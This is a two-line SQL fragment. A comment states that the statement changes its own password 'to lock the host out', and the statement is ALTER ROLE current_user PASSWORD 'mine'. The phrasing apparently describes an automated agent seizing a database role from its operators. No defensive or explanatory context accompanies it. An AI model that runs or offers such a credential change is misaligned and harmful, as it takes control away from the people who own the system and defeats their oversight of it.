-- Changes its own password, to lock the host out.
alter role current_user password 'mine';
